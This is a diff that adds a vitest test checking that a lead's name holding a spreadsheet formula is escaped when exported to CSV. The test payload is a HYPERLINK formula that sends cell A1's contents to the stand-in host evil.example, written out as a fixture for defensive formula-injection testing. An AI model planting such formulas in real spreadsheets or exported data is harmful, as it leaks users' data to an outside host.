@@ -1,4 +1,5 @@
 import { beforeAll, describe, expect, it } from 'vitest';
+import { csvCell } from '../../renderer/kit/work/sheet/writeCsv.ts';
 import { anonymous, service, uniqueEmail } from '../support/backend.ts';
 import { forgetTickets } from './sql.ts';
 import {
@@ -155,6 +156,14 @@ describe('what a sender makes up', () => {
       .eq('kind', 'lead_assigned')
       .like('title', '%script%');
     expect(await succeed(told)).toEqual([{ title: `${script} is your lead` }]);
+  });
+
+  it('goes out as words where it would be a formula in the sheet that the broker exports', async () => {
+    const id = await form();
+    const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
+    await succeed(send(sent(id, { name: formula })));
+    const [lead] = await leadsBy(id);
+    expect(csvCell(lead?.name ?? '')).toMatch(/^"'=/);
   });
 
   it('does not go past the sentence that has to be agreed to', async () => {
